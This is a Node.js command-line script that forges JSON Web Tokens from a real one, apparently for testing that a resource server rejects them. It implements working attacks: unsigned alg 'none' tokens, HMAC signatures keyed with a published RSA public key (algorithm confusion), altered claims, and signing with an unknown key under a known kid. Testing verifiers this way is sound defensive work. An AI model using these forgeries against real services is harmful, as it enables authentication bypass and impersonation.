#!/usr/bin/env node
// Makes the tokens a resource server must refuse, from a real one (token.mjs's output):
// the same header and claims, changed as asked, then signed in one of four ways.
//
//   forge.mjs --token T|- [claim changes] --alg none
//       unsigned: alg "none", empty signature
//   forge.mjs --token T|- [claim changes] --alg HS256 --jwks FILE|URL [--kid K] [--secret-form pem|der|jwk|n]
//       HMAC keyed with a PUBLISHED public key (the algorithm-confusion attack): by default its
//       SPKI PEM, as an RSA verifier handed "the key" would use it; kid K, else the token's
//   forge.mjs --token T|- [claim changes] --keys private.jwks [--kid K]
//       re-signed with the provider's own private key (so only the changed claims are wrong:
//       iss, aud, exp, nbf); the key's alg and kid
//   forge.mjs --token T|- [claim changes] --random-key [--alg RS256|ES256] [--kid K]
//       signed with a new key no JWKS has; the token's kid (a known kid, wrong key) unless --kid
//
// Claim changes: --set NAME=VALUE (VALUE read as JSON when it parses, else as a string),
// --unset NAME, --exp-in=S / --nbf-in=S / --iat-in=S (now + S seconds; negative, in the past:
// write it with "=", as --exp-in=-60),
// --header NAME=VALUE (a header member). The forged token goes to stdout.
import { createPublicKey } from 'node:crypto';
import { readFileSync } from 'node:fs';

import { CompactSign, importJWK, generateKeyPair } from 'jose';

import { UsageError, fail, decodeJwt, readJson, parseFlags } from './lib/common.mjs';

const PROG = 'forge.mjs';
const enc = (obj) => Buffer.from(JSON.stringify(obj)).toString('base64url');

function parseValue(raw) {
  try {
    return JSON.parse(raw);
  } catch {
    return raw;
  }
}

function assignments(list, what) {
  return (list || []).map((item) => {
    const eq = item.indexOf('=');
    if (eq < 1) throw new UsageError(`${what} takes NAME=VALUE, not ${item}`);
    return [item.slice(0, eq), parseValue(item.slice(eq + 1))];
  });
}

async function loadJwks(source) {
  if (/^https?:\/\//.test(source)) {
    const response = await fetch(source, { signal: AbortSignal.timeout(10000) });
    if (response.status !== 200) throw new Error(`${source} answered ${response.status}`);
    return response.json();
  }
  return readJson(source, 'JWKS');
}

function hmacSecret(jwk, form) {
  const { d, p, q, dp, dq, qi, ...pub } = jwk; // never the private members
  const key = createPublicKey({ key: pub, format: 'jwk' });
  switch (form) {
    case 'pem': return Buffer.from(key.export({ type: 'spki', format: 'pem' }));
    case 'der': return key.export({ type: 'spki', format: 'der' });
    case 'jwk': return Buffer.from(JSON.stringify(pub));
    case 'n':
      if (!pub.n) throw new UsageError('--secret-form n needs an RSA key');
      return Buffer.from(pub.n, 'base64url');
    default: throw new UsageError('--secret-form must be pem, der, jwk or n');
  }
}

async function main() {
  const { values } = parseFlags({
    args: process.argv.slice(2),
    options: {
      token: { type: 'string' },
      set: { type: 'string', multiple: true },
      unset: { type: 'string', multiple: true },
      header: { type: 'string', multiple: true },
      'exp-in': { type: 'string' },
      'nbf-in': { type: 'string' },
      'iat-in': { type: 'string' },
      alg: { type: 'string' },
      jwks: { type: 'string' },
      keys: { type: 'string' },
      kid: { type: 'string' },
      'random-key': { type: 'boolean', default: false },
      'secret-form': { type: 'string', default: 'pem' },
    },
  });
  if (!values.token) throw new UsageError('--token T (or - for stdin) is required');
  const raw = (values.token === '-' ? readFileSync(0, 'utf8') : values.token).trim();
  const { header: original, payload } = decodeJwt(raw);

  for (const [name, value] of assignments(values.set, '--set')) payload[name] = value;
  for (const name of values.unset || []) delete payload[name];
  const now = Math.floor(Date.now() / 1000);
  for (const claim of ['exp', 'nbf', 'iat']) {
    const rel = values[`${claim}-in`];
    if (rel === undefined) continue;
    if (!/^-?\d+$/.test(rel)) throw new UsageError(`--${claim}-in takes seconds`);
    payload[claim] = now + Number(rel);
  }
  const extraHeader = Object.fromEntries(assignments(values.header, '--header'));
  const data = new TextEncoder().encode(JSON.stringify(payload));
  const ways = [values.alg === 'none', Boolean(values.jwks), Boolean(values.keys), values['random-key']];
  if (ways.filter(Boolean).length !== 1) {
    throw new UsageError('choose one of --alg none, --alg HS256 --jwks, --keys, --random-key');
  }

  let token;
  if (values.alg === 'none') {
    token = `${enc({ ...original, alg: 'none', ...extraHeader })}.${enc(payload)}.`;
  } else if (values.jwks) {
    const alg = values.alg || 'HS256';
    if (!/^HS(256|384|512)$/.test(alg)) throw new UsageError('--jwks signs with HS256, HS384 or HS512');
    const kid = values.kid || original.kid;
    const { keys = [] } = await loadJwks(values.jwks);
    const jwk = keys.find((k) => k.kid === kid);
    if (!jwk) throw new UsageError(`no key ${kid} in ${values.jwks}`);
    const secret = hmacSecret(jwk, values['secret-form']);
    token = await new CompactSign(data)
      .setProtectedHeader({ ...original, alg, kid, ...extraHeader })
      .sign(new Uint8Array(secret));
  } else if (values.keys) {
    const { keys = [] } = readJson(values.keys, 'key file');
    const jwk = values.kid ? keys.find((k) => k.kid === values.kid) : keys[0];
    if (!jwk || !jwk.d) throw new UsageError(`no private key ${values.kid || ''} in ${values.keys}`);
    if (!jwk.alg) throw new UsageError(`key ${jwk.kid} has no alg`);
    token = await new CompactSign(data)
      .setProtectedHeader({ ...original, alg: jwk.alg, kid: jwk.kid, ...extraHeader })
      .sign(await importJWK(jwk, jwk.alg));
  } else {
    const alg = values.alg || original.alg;
    const { privateKey } = await generateKeyPair(alg);
    token = await new CompactSign(data)
      .setProtectedHeader({ ...original, alg, kid: values.kid || original.kid, ...extraHeader })
      .sign(privateKey);
  }
  process.stdout.write(`${token}\n`);
}

main().catch((err) => fail(PROG, err));
